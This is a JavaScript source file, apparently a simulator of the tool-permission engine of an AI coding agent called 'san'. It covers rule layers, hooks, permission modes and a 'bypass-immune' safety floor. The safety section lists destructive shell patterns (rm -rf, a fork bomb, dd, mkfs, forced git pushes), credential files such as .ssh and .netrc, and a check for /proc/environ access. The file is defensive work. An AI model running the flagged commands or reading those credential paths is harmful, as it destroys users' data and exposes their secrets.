	const matching = matchingHooks(s, "PermissionRequest").filter((h) => !h.async);
	if (matching.length === 0) return gate;
	const pr = records(s, "PermissionRequest");
	if (matching.some((h) => !pr.some((r) => r.hook === h))) return void 0;
	const prDeny = pr.find((r) => r.verdict === "deny");
	if (prDeny) return {
		decision: "deny",
		reason: `PermissionRequest hook '${prDeny.hook.name}' denied it`
	};
	if (pr.some((r) => r.verdict === "allow") && codeHonoursHookAllow(s)) return {
		decision: "allow",
		reason: "a PermissionRequest hook allowed it"
	};
	return gate;
}

// src/engines/san/state.ts
/** Where a located thing is, for a reason text: `~/.claude/settings.json` or `.gen/settings.json`. */
function floorText(f) {
	return f.tier === "working-directory" ? `${f.reason} (acceptEdits confines edits to the workspace)` : `bypass-immune: ${f.reason}`;
}
/**
* An allow from `layer` is admitted only if nothing vetoes it: a hook's ask,
* the bypass-immune floor (the call then asks), plan mode for a write-class
* call (the mode policy then denies it).
*/
function offerAllow(s, layer, reason, source) {
	if (s.forcedAsk) return {
		outcome: "pass",
		reason: `${reason}, but a hook asked (${s.forcedAsk.reason}), and no later source lifts a hook's ask`,
		sources: [source]
	};
	if (s.floor) {
		const why = `${reason}, but san still holds the call: ${floorText(s.floor)}`;
		s.asks.push(require_faithful.claim(layer, why, source));
		return {
			outcome: "ask",
			reason: why,
			sources: [source]
		};
	}
	if (s.planWrite) return {
		outcome: "pass",
		reason: `${reason}, but plan mode denies write-class tools before any allow (a policy filter)`,
		sources: [source]
	};
	s.decided = {
		...require_faithful.claim(layer, reason, source),
		decision: "allow"
	};
	return {
		outcome: "allow",
		reason,
		sources: [source]
	};
}
function deny(s, layer, reason, source) {
	s.decided = {
		...require_faithful.claim(layer, reason, source),
		decision: "deny"
	};
	return {
		outcome: "deny",
		reason,
		sources: [source]
	};
}
function ask(s, layer, reason, source) {
	s.asks.push(require_faithful.claim(layer, reason, source));
	return {
		outcome: "ask",
		reason,
		sources: [source]
	};
}

// src/engines/san/layers/default.ts
/** Source 5: the default. Nothing allowed or denied the call: san asks. */
const defaultLayer = {
	id: "default",
	title: "Default: ask",
	run(s) {
		const first = s.asks[0];
		const held = s.floor && !s.asks.some((a) => a.reason.includes(floorText(s.floor))) ? `; san would hold it anyway (${floorText(s.floor)})` : "";
		const reason = first ? `no source allowed or denied the call; it asks (first ask: ${first.layer}: ${first.reason})${held}` : `no source allowed or denied the call: san asks${held}`;
		if (!first) s.asks.push({
			layer: "default",
			reason,
			source: null
		});
		return {
			outcome: "ask",
			reason
		};
	}
};

// src/engines/san/safety.ts
/**
* The checks san holds a call on whatever the rules and the mode say (the
* "bypass-immune" tier of `HasPermissionToUseTool`, step 2, in
* internal/setting/permission.go at 5e33c937: `BypassImmuneReason`,
* `bypassImmunePromptReason`), with their lists from security.go and
* bash_ast.go of the same commit. Bash is checked over san's own reading of
* the command (match/bash.ts). Later checks (the "pipe into shell", network
* and upload checks, `sudo:`/`crontab:`…, the `.san` directory, a
* recoverable git tier) are not part of the pinned version and are not
* applied. See docs/engines/san.md.
*/
/** Patterns found anywhere in a command's `name:args` form (`destructiveCommands`, security.go). */
const DESTRUCTIVE = [
	"rm:-rf",
	"rm:-fr",
	"rm:-r",
	"git:reset --hard",
	"git:clean -fd",
	"git:clean -f",
	"git:push -f",
	"git:checkout --",
	"git:stash drop",
	"git:stash clear",
	"git:branch -D",
	"git:branch -d -f",
	"chmod:777",
	"chmod:-R 777",
	":(){ :|:& };:",
	"> /dev/",
	"dd:if=",
	"mkfs",
	"fdisk"
];
/** `sensitiveDirectories` (security.go): any path component. */
const SENSITIVE_DIRS = [
	".git",
	".claude",
	".gen",
	".vscode",
	".idea",
	".ssh",
	".aws",
	".gnupg",
	".kube"
];
const SENSITIVE_FILES = {
	".bashrc": "shell startup script",
	".bash_profile": "shell startup script",
	".zshrc": "shell startup script",
	".zprofile": "shell startup script",
	".profile": "shell startup script",
	".zshenv": "shell startup script",
	".login": "shell startup script",
	".gitconfig": "git configuration (hooks, aliases)",
	".gitmodules": "git submodule config",
	".npmrc": "npm config (may contain auth tokens)",
	".pypirc": "PyPI config (may contain auth tokens)",
	".netrc": "network credentials",
	".docker/config.json": "Docker credentials"
};
const SENSITIVE_REDIRECT_PREFIXES = [
	"/etc/",
	"/dev/sd",
	"/dev/nvme",
	"/boot/",
	"/usr/lib/",
	"/usr/bin/"
];
const DANGEROUS_BUILTINS = /* @__PURE__ */ new Set([
	"eval",
	"source",
	"."
]);
const ZSH_DANGEROUS = [
	"zmodload",
	"emulate",
	"sysopen",
	"sysread",
	"syswrite",
	"sysseek",
	"zpty",
	"ztcp",
	"zsocket",
	"zf_rm",
	"zf_mv",
	"zf_ln",
	"zf_chmod",
	"zf_chown"
];
/** `readOnlyGitSubcommands` (bash_ast.go), for the cd + git check. */
const READ_ONLY_GIT = /* @__PURE__ */ new Set([
	"blame",
	"cat-file",
	"describe",
	"diff",
	"grep",
	"log",
	"ls-files",
	"ls-tree",
	"merge-base",
	"reflog",
	"rev-parse",
	"shortlog",
	"show",
	"show-ref",
	"status",
	"symbolic-ref"
]);
/**
* whale-perm's reading of the seed's "certain Bash patterns" that plan mode
* does not deny (the pinned code has no plan mode and no read-only Bash list):
* commands that only read. Used for plan mode only, never to allow.
*/
const READ_ONLY_COMMANDS = /* @__PURE__ */ new Set([
	"rg",
	"grep",
	"egrep",
	"fgrep",
	"find",
	"fd",
	"ls",
	"tree",
	"cat",
	"head",
	"tail",
	"wc",
	"stat",
	"file",
	"du",
	"which",
	"pwd",
	"cd",
	"basename",
	"dirname",
	"realpath",
	"readlink"
]);
const READ_ONLY_UNSAFE_FLAGS = {
	find: [
		"-exec",
		"-execdir",
		"-ok",
		"-okdir",
		"-delete",
		"-fprint",
		"-fprintf",
		"-fls"
	],
	fd: [
		"-x",
		"--exec",
		"-X",
		"--exec-batch"
	],
	rg: ["--pre", "--hostname-bin"],
	tree: ["-o"]
};
/** Absolute form of a path as san's tools would see it: `~` is the home directory, relative is under the workspace. */
function absolutePath(path, workspace, home) {
	if (path === "~") return home;
	if (path.startsWith("~/")) return node_path.posix.join(home, path.slice(2));
	return node_path.posix.isAbsolute(path) ? node_path.posix.normalize(path) : node_path.posix.join(workspace, path);
}
/**
* `isSensitivePath`: the parent directory's symlinks resolved when it exists
* (the file itself is not resolved), then a sensitive directory anywhere on
* the path, or a sensitive file name (one or two levels).
*/
function sensitivePath(path, cwd, resolve) {
	let p = path;
	const dir = resolve?.(node_path.posix.isAbsolute(p) ? node_path.posix.dirname(p) : node_path.posix.join(cwd, node_path.posix.dirname(p)));
	if (dir !== void 0) p = node_path.posix.join(dir, node_path.posix.basename(p));
	if (!node_path.posix.isAbsolute(p)) p = node_path.posix.join(cwd, p);
	const parts = p.split("/");
	for (const part of parts) if (SENSITIVE_DIRS.includes(part)) return `${part}/ directory`;
	const base = node_path.posix.basename(p);
	if (SENSITIVE_FILES[base]) return `${base} (${SENSITIVE_FILES[base]})`;
	if (parts.length >= 2) {
		const two = `${parts[parts.length - 2]}/${base}`;
		if (SENSITIVE_FILES[two]) return `${two} (${SENSITIVE_FILES[two]})`;
	}
}
/** `resolvePath` (workdir.go): the path resolved, else its parent resolved plus the base name, else as is. */
function resolvedPath(path, resolve) {
	const full = resolve?.(path);
	if (full !== void 0) return full;
	const dir = resolve?.(node_path.posix.dirname(path));
	return dir !== void 0 ? node_path.posix.join(dir, node_path.posix.basename(path)) : path;
}
function isSubpath(child, parent) {
	const p = parent.endsWith("/") ? parent : `${parent}/`;
	return `${child}/` === p || child.startsWith(p);
}
/** `isInWorkingDirectory`: the path as written and as resolved must each lie in some form of the directory. */
function inWorkingDirectory(path, dir, resolve) {
	const orig = node_path.posix.normalize(path);
	const res = resolvedPath(orig, resolve);
	const origDir = node_path.posix.normalize(dir);
	const resDir = resolvedPath(origDir, resolve);
	return (isSubpath(orig, origDir) || isSubpath(orig, resDir)) && (isSubpath(res, origDir) || isSubpath(res, resDir));
}
/** `isDestructiveCommand`: a destructive pattern in any normalised command, or `git push --force`. */
function destructive(r) {
	return normalizedCommands(r).some((n) => DESTRUCTIVE.some((p) => n.includes(p)) || n.startsWith("git:push ") && n.slice(9).split(/\s+/).includes("--force"));
}
function gitSubcommand(args) {
	const i = args.findIndex((a) => a !== "" && !a.startsWith("-"));
	return i === -1 ? {
		sub: "",
		rest: []
	} : {
		sub: args[i],
		rest: args.slice(i + 1)
	};
}
function readOnlyGit(c) {
	const { sub, rest } = gitSubcommand(c.args);
	if (READ_ONLY_GIT.has(sub)) return true;
	if (sub === "branch") return rest.length === 0 || rest.every((a) => [
		"-a",
		"-r",
		"-v",
		"-vv",
		"--show-current",
		"--list"
	].includes(a));
	if (sub === "tag") return rest.length === 0 || rest.every((a) => a === "-l" || a === "--list" || a === "-v" || a.startsWith("-n"));
	if (sub === "remote") return rest.length === 0 || [
		"-v",
		"show",
		"get-url"
	].includes(rest[0]);
	return false;
}
/** A command substitution inside another, in whale-perm's analysis (the last test of `checkASTSecurity`). */
function nestedSubstitutionIn(shell) {
	const subst = (n) => n === "command-substitution" || n === "backticks";
	return shell.segments.some((seg) => seg.nesting.filter(subst).length > 1);
}
/** `checkASTSecurity` (bash_ast.go) over san's commands; `nested` asks the analysis, last. */
function astSecurity(nested, cmds, cwd, resolve) {
	if (cmds.length > 50) return "excessive command count (>50 subcommands)";
	for (const c of cmds) if (DANGEROUS_BUILTINS.has(c.name)) return `dangerous builtin: ${c.name}`;
	let cdLiteral = false;
	for (const c of cmds) {
		if (c.name === "cd") {
			cdLiteral = c.args.length === 1 && c.args[0].trim() !== "" && !c.args[0].trim().startsWith("-") && !/[$`;&|<>(){}]/.test(c.args[0]);
			continue;
		}
		if (c.name === "git" && cdLiteral && !readOnlyGit(c)) return "cd + git compound command (potential bare repo RCE)";
	}
	for (const c of cmds) for (const t of c.redirects) if (sensitivePath(t, cwd, resolve) || SENSITIVE_REDIRECT_PREFIXES.some((p) => t.toLowerCase().startsWith(p))) return `redirect to sensitive path: ${t}`;
	if (nested()) return "nested command substitution detected";
}
const SUSPICIOUS_REDIRECTS = [
	"> /etc/",
	">> /etc/",
	"> /dev/sd",
	">> /dev/sd",
	"> /dev/nvme",
	">> /dev/nvme",
	"> ~/.ssh/",
	">> ~/.ssh/",
	"> ~/.bashrc",
	">> ~/.bashrc",
	"> ~/.zshrc",
	">> ~/.zshrc",
	"> ~/.profile",
	">> ~/.profile"
];
/** `bashSecurityPatterns` (security.go): text checks over the whole command. */
function textSecurity(command) {
	if (nestedSubstitution(command) || command.includes("eval ") && (command.includes("$(") || command.includes("`"))) return "command substitution detected";
	if (/-\s*\\[A-Za-z]/.test(command)) return "obfuscated flags detected";
	if (/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u200b\u200c\u200d\ufeff]/.test(command)) return "control characters detected";
	if (command.includes("IFS=") || command.includes("IFS =")) return "IFS injection detected";
	if (rawPieces(command).flatMap((p) => p.split("|").map((x) => x.trim()).filter((x) => x !== "")).some((p) => ZSH_DANGEROUS.includes(node_path.posix.basename(p.split(/\s+/)[0] ?? "")))) return "zsh dangerous command";
	if (command.includes("/proc/") && command.includes("environ")) return "/proc/environ access";
	const lower = command.toLowerCase();
	if (SUSPICIOUS_REDIRECTS.some((p) => lower.includes(p))) return "suspicious redirection";
}
/** `hasCommandSubstitution`'s depth count: a `$(` opened inside another. */
function nestedSubstitution(command) {
	let depth = 0;
	for (let i = 0; i < command.length - 1; i++) {
		if (command[i] === "$" && command[i + 1] === "(") {
			depth++;
			if (depth > 1) return true;
		}
		if (command[i] === ")" && depth > 0) depth--;
	}
	return false;
}
/**
* The floor's tests of a reading alone (`isDestructiveCommand`, the text
* patterns), made once per reading, which never changes: `diff` evaluates
* each probe on two stacks over one reading. The other tests read the
* stack's paths and stay per evaluation.
*/
const textTestsOf = /* @__PURE__ */ new WeakMap();
function textTests(r) {
	let t = textTestsOf.get(r);
	if (!t) textTestsOf.set(r, t = {});
	return t;
}
/** `textSecurity` of the reading's command, from `known` when asked before (null: nothing found). */
function textOnce(r, known) {
	if (known.text === void 0) known.text = textSecurity(r.command) ?? null;
	return known.text ?? void 0;
}
/**
* Why san holds this call for a person whatever the rules and the mode say
* (`bypassImmunePromptReason`): a sensitive path for a file write
* (`BypassImmuneReason`), a destructive or suspicious command
* (`isDestructiveCommand`, `checkBashSecurity`), an Edit or Write outside the
* working directory in acceptEdits.
*/
function floorReason(tool, input, reading, nested, ctx, kept = textTests) {
	if (tool === "Edit" || tool === "Write" || tool === "NotebookEdit") {
		const p = typeof input.file_path === "string" ? input.file_path : void 0;
		if (p === void 0) return void 0;
		const r = sensitivePath(p, ctx.workspace, ctx.resolve);
		if (r) return {
			reason: r,
			tier: "unrecoverable"
		};
		if (ctx.mode === "acceptEdits" && (tool === "Edit" || tool === "Write")) {
			if (!inWorkingDirectory(node_path.posix.isAbsolute(p) ? p : node_path.posix.join(ctx.workspace, p), ctx.workspace, ctx.resolve)) return {
				reason: "outside working directory",
				tier: "working-directory"
			};
		}
		return;
	}
	if (tool !== "Bash" || !reading || !nested) return void 0;
	const known = kept(reading);
	if (known.destructive ??= destructive(reading)) return {
		reason: "destructive command",
		tier: "unrecoverable"
	};
	const cmds = parsedCommands(reading);
	const sec = (reading.commands ? astSecurity(nested, cmds, ctx.workspace, ctx.resolve) : void 0) ?? textOnce(reading, known);
	if (sec) return {
		reason: sec,
		tier: "unrecoverable"
	};
}
/** Plan mode only (see READ_ONLY_COMMANDS): every command san reads only reads, nothing written, nothing substituted, nothing held. */
function isReadOnlyBash(shell, ctx) {
	const command = shell.input;
	if (command.includes("$(") || command.includes("`") || command.includes("<(") || command.includes(">(")) return false;
	const reading = sanReading(shell);
	const cmds = reading.commands;
	if (!cmds || cmds.length === 0) return false;
	if (floorReason("Bash", {}, reading, () => nestedSubstitutionIn(shell), ctx)) return false;
	if (cmds.some((c) => (c.segment?.assignments.length ?? 0) > 0)) return false;
	return cmds.every((c) => {
		if (c.redirects.some((t) => t !== "/dev/null")) return false;
		if (c.name === "git") return readOnlyGit(c);
		if (!READ_ONLY_COMMANDS.has(c.name)) return false;
		const unsafe = READ_ONLY_UNSAFE_FLAGS[c.name] ?? [];
		return !c.args.some((a) => unsafe.some((f) => a.startsWith(f)));
	});
}

// src/engines/san/layers/mode-policy.ts
/**
* Source 4: the mode policy. The seed: bypassPermissions forces allow, plan
* forces deny for any write-class tool (whale-perm reads the seed's "certain
* Bash patterns" as any command that is not provably read-only). From san's
* code (`modeDefaultDecision` at 5e33c937): safe tools are allowed in every
* mode; acceptEdits allows the file-editing tools. No Bash command is
* allowed by the mode alone (the read-only Bash auto-allow came later). An allow here still yields to the bypass-immune floor and to a
* hook's ask.
*/
/** Is the call write-class for plan mode? File-editing tools, and any Bash command that is not provably read-only. */
function isWriteClass(s) {
	if (isEditTool(s.tool)) return true;
	if (s.tool === "Bash") return !s.shell || !isReadOnlyBash(s.shell, {
		workspace: s.stack.workspace,
		home: s.stack.home,
		mode: "plan",
		resolve: s.resolve
	});
	return false;
}
/** What the mode says about the call on its own (no side effects; the hooks layer asks it too). */
function modeVerdict(s) {
	const mode = s.mode.value;
	if (mode === "plan" && s.planWrite) return {
		kind: "deny",
		reason: `plan mode: read-only (${s.tool === "Bash" ? "a command that is not provably read-only" : `${s.tool} writes files`})`
	};
	if (isSafeTool(s.tool)) return {
		kind: "allow",
		reason: `${s.tool} is a safe (read-only) tool, allowed in every mode`
	};
	if (mode === "bypassPermissions") return {
		kind: "allow",
		reason: "mode bypassPermissions forces allow"
	};
	if (mode === "acceptEdits" && isEditTool(s.tool)) return {
		kind: "allow",
		reason: "mode acceptEdits allows file edits"
	};
	if (mode === "plan") return {
		kind: "none",
		reason: "plan mode denies only write-class tools"
	};
	return {
		kind: "none",
		reason: `mode ${mode} has no verdict for ${s.tool}`
	};
}
/** Would the mode policy settle the call without a person (so no PermissionRequest hook fires)? */
function modeSettles(s) {
	const v = modeVerdict(s);
	return v.kind === "deny" || v.kind === "allow" && !s.floor && !s.forcedAsk;
}
const modePolicyLayer = {
	id: "mode-policy",
	title: "Mode policy: bypassPermissions allows, plan denies writes, safe tools allowed",
	run(s) {
		const v = modeVerdict(s);
		const origin = s.mode.origin === "default" ? `${s.mode.value}, san's default` : `${s.mode.value} from ${s.mode.origin}`;
		if (v.kind === "deny") return deny(s, "mode-policy", v.reason, s.mode.source);
		if (v.kind === "allow") return offerAllow(s, "mode-policy", `${v.reason} (mode ${origin})`, s.mode.source);
		return {
			outcome: "pass",
			reason: `${v.reason} (mode ${origin})`,
			sources: [s.mode.source]
		};
	}
};

// src/engines/san/layers/hooks.ts
function said(r) {
	const how = r.how === "simulated" ? "simulated" : r.how === "ran" ? "ran" : r.how;
	const what = r.verdict === "none" ? "no verdict" : r.verdict === "error" ? "failed" : r.verdict;
	return `hook '${r.hook.name}' (${how}) said ${what}${r.reason ? `: ${r.reason}` : ""}${r.detail ? ` [${r.detail}]` : ""}`;
}
/** `ResolveHookAllow`: an ask rule or the floor outranks a hook's allow. */
function allowBlocker(s) {
	const asks = effectiveRules(s.stack, "ask");
	const a = s.tool === "Bash" && s.reading ? bashAny(asks, s.reading)?.rule : firstSubjectMatch(asks, s.tool, s.call.input);
	if (a) return `ask rule ${a.text} (${a.origin}) outranks a hook's allow`;
	if (s.floor) return `${floorText(s.floor)} outranks a hook's allow`;
}
function note(s, records) {
	for (const r of records) {
		if (r.how === "async") s.warnings.push(`hook '${r.hook.name}' is async: it runs but never votes on the call`);
		if (r.verdict === "error") s.warnings.push(`${said(r)}; san logs the failure and goes on as if the hook had no opinion (hooks fail open)`);
		if (r.how === "not-run") {
			s.unknowns.push(`hook '${r.hook.name}' (${r.hook.event}, ${r.hook.origin}) matched but was not run (pass --run-hooks or --hook-result ${r.hook.name}=allow|ask|deny|error)${r.detail ? `; ${r.detail}` : ""}`);
			s.unresolved.push(require_faithful.claim("hooks", `hook '${r.hook.name}' was not run; the call proceeds only if it raises no objection`, r.hook.source));
		}
		if (r.hook.condition !== void 0 && r.how !== "skipped") s.warnings.push(`hook '${r.hook.name}' has an "if" condition (${r.hook.condition}); whale-perm does not evaluate it and takes the hook to match`);
	}
}
/** Folds one event's records into the state; returns a row result when the event decided something. */
function apply(s, records, parts, sources) {
	note(s, records);
	for (const r of records) if (r.how !== "async" && r.how !== "skipped") parts.push(said(r));
	const src = (r) => r.hook.source;
	const denied = records.find((r) => r.verdict === "deny");
	if (denied) {
		s.forcedAsk = void 0;
		return deny(s, "hooks", said(denied), src(denied));
	}
	for (const r of records) for (const u of describeUpdates(r.hook.name, r.updatedPermissions ?? [])) s.warnings.push(u);
	const asked = records.find((r) => r.verdict === "ask");
	if (asked) {
		const c = require_faithful.claim("hooks", said(asked), src(asked));
		s.forcedAsk = c;
		if (s.decided?.decision === "allow") {
			s.warnings.push(`${s.decided.layer} allowed the call, but ${said(asked)}: a hook's ask makes it prompt`);
			delete s.decided;
		}
		s.asks.push(c);
		return {
			outcome: "ask",
			reason: `${parts.join("; ")}; a hook's ask is not lifted by a later source`,
			sources: sources.map((h) => h.source)
		};
	}
	const allowed = records.find((r) => r.verdict === "allow");
	if (allowed && !s.decided) {
		const blocker = allowBlocker(s);
		if (blocker) return {
			outcome: "pass",
			reason: `${parts.join("; ")}; not honoured: ${blocker}`,
			sources: sources.map((h) => h.source)
		};
		if (records.filter((r) => r.how === "not-run").length === 0) {
			const r = offerAllow(s, "hooks", said(allowed), src(allowed));
			return {
				...r,
				reason: parts.join("; ") + (r.outcome === "allow" ? "" : `; ${r.reason}`)
			};
		}
	}
}
const hooksLayer = {
	id: "hooks",
	title: "Hook responses: PermissionRequest hooks where a person would be asked",
	run(s) {
		if (s.decided?.decision === "deny") return {
			outcome: "skip",
			reason: `not reached: ${s.decided.layer} denied the call`
		};
		const parts = [];
		const consulted = [];
		const inert = matchingHooks(s, "PreToolUse");
		if (inert.length > 0) s.warnings.push(`${inert.map((h) => `hook '${h.name}'`).join(", ")} (PreToolUse) ${inert.length > 1 ? "match" : "matches"} ${s.tool}, but san 5e33c937 never runs PreToolUse hooks for a tool call (hook.Engine.FilterToolCalls has no caller; they run from cdaee750, 2026-06-12): ${inert.length > 1 ? "they play" : "it plays"} no part in the decision`);
		if (s.decided?.decision === "allow") return {
			outcome: "skip",
			reason: `${s.decided.layer} already allowed the call, so no PermissionRequest hook fires`
		};
		if (modeSettles(s)) return {
			outcome: "pass",
			reason: "the mode policy settles the call, so no PermissionRequest hook fires"
		};
		if (!s.subagent && (s.mode.value === "dontAsk" || s.nonInteractive)) return {
			outcome: "pass",
			reason: "nobody can be asked: san turns the ask into a deny before any approval request (coerceAsk), so no PermissionRequest hook fires"
		};
		const permission = runHooks(s, "PermissionRequest");
		s.hooks.push(...permission);
		consulted.push(...permission.map((r) => r.hook));
		const rewritten = permission.find((r) => r.updatedInput && r.verdict === "allow");
		if (rewritten) s.warnings.push(`${said(rewritten)} with a rewritten input; san runs the call with it but checks the original input (ResolveHookAllow over the request's arguments)`);
		const prResult = apply(s, permission, parts, consulted);
		if (prResult) return prResult;
		if (consulted.length === 0) return {
			outcome: "pass",
			reason: `no PreToolUse or PermissionRequest hook matches ${s.tool}`
		};
		if (s.unresolved.length > 0) return {
			outcome: "pass",
			reason: `${parts.join("; ")}`,
			sources: consulted.map((h) => h.source)
		};
		return {
			outcome: "pass",
			reason: `${parts.join("; ") || "hooks gave no verdict"}`,
			sources: consulted.map((h) => h.source)
		};
	}
};

// src/engines/san/layers/prompt.ts
const promptLayer = {
	id: "prompt",
	title: "Can we prompt? (foreground, subagent, non-interactive)",
	run(s) {
		const d = s.decided;
		if (d?.decision === "deny") {
			s.final = { ...d };
			return {
				outcome: "skip",
				reason: `${d.layer} denied the call: nobody is asked`
			};
		}
		if (d?.decision === "allow" && s.unresolved.length === 0) {
			s.final = { ...d };
			return {
				outcome: "skip",
				reason: `${d.layer} allowed the call: no prompt`
			};
		}
		if (s.unresolved.length > 0) {
			const u = s.unresolved[0];
			s.final = {
				...require_faithful.claim("hooks", `${u.reason}; the outcome depends on it (see the branches)`, u.source),
				decision: "ask"
			};
			return {
				outcome: "ask",
				reason: "the outcome depends on a hook that was not run: at least ask"
			};
		}
		const why = s.asks[0] ?? require_faithful.claim("default", "no source allowed or denied the call", null);
		const resolve = (decision, reason) => {
			s.final = decision === "ask" ? {
				...why,
				decision
			} : {
				...require_faithful.claim("prompt", `${reason} (${why.layer}: ${why.reason})`, why.source),
				decision
			};
			return {
				outcome: decision,
				reason
			};
		};
		const mode = s.mode.value;
		if (s.subagent) {
			if (s.floor?.tier === "unrecoverable") return resolve("deny", `a subagent cannot ask, and san denies ${floorText(s.floor)} in a subagent in every mode`);
			if (mode === "bypassPermissions") return resolve("allow", "a subagent cannot ask; in bypassPermissions it treats ask as allow");
			if (mode === "plan") {
				s.warnings.push(`would have asked: ${why.reason} (a plan-mode subagent records this and denies the call)`);
				return resolve("deny", "a subagent cannot ask; in plan mode it denies and records that it would have asked");
			}
			return resolve("deny", `a subagent cannot ask; in ${mode} mode it treats ask as deny`);
		}
		if (mode === "dontAsk") return resolve("deny", "mode dontAsk never prompts: ask becomes deny");
		if (s.nonInteractive) return resolve("deny", "a non-interactive caller cannot prompt: san turns ask into deny");
		return resolve("ask", "a person is asked (the foreground agent shows its approval prompt)");
	}
};

// src/engines/san/layers/session-permissions.ts
/**
* Source 2: session permissions, the rules granted during the run (approval
* modals, hook updates; here --session-rule). san keeps only allows there: a
* bare tool name grants the whole tool (`IsToolAllowed`), a pattern is
* matched like an allow rule (`MatchAllowList`), every command san reads
* in a Bash call covered.
*/
const sessionPermissionsLayer = {
	id: "session-permissions",
	title: "Session permissions: rules granted during the run (--session-rule)",
	run(s) {
		const rules = s.stack.sessionRules;
		if (rules.length === 0) return {
			outcome: "pass",
			reason: "no session permission granted (pass --session-rule to simulate one)"
		};
		const whole = rules.find((r) => r.wholeTool && r.tool === s.tool);
		s.picked.session = whole;
		if (whole) return offerAllow(s, "session-permissions", `session permission ${whole.text}: allow all ${s.tool} for this session`, null);
		const patterns = rules.filter((r) => !r.wholeTool);
		if (s.tool === "Bash" && s.reading) {
			const cover = bashEvery(patterns, s.reading);
			if (cover.covered && cover.first) {
				s.picked.session = cover.first;
				return offerAllow(s, "session-permissions", `session permission ${cover.first.text} covers every command`, null);
			}
			if (cover.first) return {
				outcome: "pass",
				reason: `session permission ${cover.first.text} covers part of the command only`
			};
		} else {
			const r = patterns.find((p) => subjectMatches(p, s.tool, s.call.input));
			s.picked.session = r;
			if (r) return offerAllow(s, "session-permissions", `session permission ${r.text}`, null);
		}
		return {
			outcome: "pass",
			reason: `no session permission matches (${rules.map((r) => r.text).join(", ")})`
		};
	}
};

// src/engines/san/layers/settings-rules.ts
function ruleLabel(r) {
	return `${r.action} rule ${r.text} (${r.origin})`;
}
function matched(r, m, whole) {
	const seed = m.seedOnly ? " (the seed's reading of a multi-word prefix; san's code would not match it)" : "";
	return m.form === whole ? `${ruleLabel(r)}${seed}` : `${ruleLabel(r)} matches '${m.form}'${seed}`;
}
function bash(s) {
	const reading = s.reading;
	const whole = reading.command.trim();
	const denyHit = bashAny(effectiveRules(s.stack, "deny"), reading);
	if (denyHit) {
		s.picked.settings = denyHit.rule;
		const why = matched(denyHit.rule, denyHit.match, whole);
		return deny(s, "settings-rules", denyHit.match.form === whole ? why : `${why}; a deny for any command blocks the whole call`, denyHit.rule.source);
	}
	const askHit = bashAny(effectiveRules(s.stack, "ask"), reading);
	const cover = bashEvery(effectiveRules(s.stack, "allow"), reading);
	if (askHit) {
		s.picked.settings = askHit.rule;
		const also = cover.covered && cover.first ? `; ${cover.first.text} also covers it, but ask rules come before allow rules` : "";
		return ask(s, "settings-rules", `${matched(askHit.rule, askHit.match, whole)}${also}`, askHit.rule.source);
	}
	if (cover.covered) {
		const r = cover.first;
		s.picked.settings = r;
		const others = [...new Set(cover.perUnit.map((x) => x.text))];
		const seed = cover.seedOnly ? " (by the seed's reading of a multi-word prefix; san's code would not match it)" : "";
		const reason = others.length > 1 ? `allow rules ${others.join(", ")} cover every command san reads (first: ${ruleLabel(r)})` : cover.units.length > 1 ? `${ruleLabel(r)} covers every command san reads` : ruleLabel(r);
		return offerAllow(s, "settings-rules", `${reason}${seed}`, r.source);
	}
	if (cover.first) {
		const missing = cover.units.filter((_, i) => cover.perUnit[i] === void 0).map((u) => `'${u.text}'`).join(", ");
		return {
			outcome: "pass",
			reason: `${cover.first.text} covers part of the command but not ${missing}: an allow rule must cover every command`,
			sources: [cover.first.source]
		};
	}
	if (cover.units.length === 0) return {
		outcome: "pass",
		reason: "san reads no command a rule can match"
	};
	return {
		outcome: "pass",
		reason: "no settings rule matches"
	};
}
function plain(s) {
	const match = (action) => firstSubjectMatch(effectiveRules(s.stack, action), s.tool, s.call.input);
	const d = match("deny");
	s.picked.settings = d;
	if (d) return deny(s, "settings-rules", ruleLabel(d), d.source);
	const a = match("ask");
	const allow = match("allow");
	s.picked.settings = a ?? allow;
	if (a) return ask(s, "settings-rules", `${ruleLabel(a)}${allow ? `; ${allow.text} also matches, but ask rules come before allow rules` : ""}`, a.source);
	if (allow) return offerAllow(s, "settings-rules", ruleLabel(allow), allow.source);
	return {
		outcome: "pass",
		reason: `no settings rule matches ${s.tool}(${ruleSubject(s.tool, s.call.input)})`
	};
}
const settingsRulesLayer = {
	id: "settings-rules",
	title: "Settings rules: permissions.deny / ask / allow, merged across the settings files",
	run(s) {
		if (s.tool === "Bash" && s.reading) return bash(s);
		return plain(s);
	}
};

// src/engines/san/rule-table.ts
const tables$1 = /* @__PURE__ */ new WeakMap();
/** The rule table of a stack, built once (a stack never changes once loaded). */
function ruleTable(stack) {
	let t = tables$1.get(stack);
	if (!t || t.records.length !== stack.rules.length + stack.sessionRules.length) tables$1.set(stack, t = build$1(stack));
	return t;
}
function sanRules(stack) {
	return ruleTable(stack).records;
}
/** The id of a settings rule or session permission of this stack. */
function ruleId(stack, r) {
	return ruleTable(stack).idOf.get(r);
}
function scopeOf(label) {
	if (label.startsWith("~/")) return "user";
	return label.includes(".local.") ? "local" : "project";
}
/** The input key a rule's argument is matched against (`BuildRule` in internal/setting/permission.go; see vocab.ts `ruleSubject`). */
function subjectKey(tool) {
	switch (tool) {
		case "Bash": return "command";
		case "Read":
		case "Write":
		case "Edit":
		case "NotebookEdit": return "file_path";
		case "WebFetch": return "url";
		case "Skill": return "skill";
		case "Glob":
		case "Grep": return "pattern";
		default: return;
	}
}
const FILE_TOOLS$1 = /* @__PURE__ */ new Set([
	"Read",
	"Write",
	"Edit",
	"NotebookEdit"
]);
/** Tools whose calls carry no argument for a rule to match: a bare name is the whole tool there. */
const NO_ARGUMENT = /* @__PURE__ */ new Set([
	"TaskCreate",
	"TaskGet",
	"TaskList",
	"TaskUpdate",
	"AskUserQuestion",
	"TodoWrite",
	"ExitPlanMode",
	"EnterPlanMode",
	"CronList",
	"Evolve"
]);
/**
* The matcher kind in the shared vocabulary, and the pattern in that kind's
* terms. san has one matcher (`matchGlob` over the command's forms or the
* call's subject); the kind says which of its uses the entry is:
* - `tool`: `Tool(*)`, `Tool(**)`, a bare name of a tool whose calls carry
*   no argument; any other bare name is its tool's argument kind with
*   pattern '' (san matches it only against an empty argument);
* - `command-prefix`: `Bash(name:*)` (pattern `name`: san normalises a
*   command to `name:args`) and the seed's multi-word `Bash(git push:*)`;
* - `command-exact`: no wildcard (`Bash(npm test)`, `Bash(git:status)` →
*   `git status`);
* - `command-glob`: any other Bash argument, as san's glob;
* - `path-glob`, `domain` (`WebFetch(domain:x)`), `url-glob` (another
*   WebFetch argument, matched against `domain:<host>`), `mcp`, and san's own
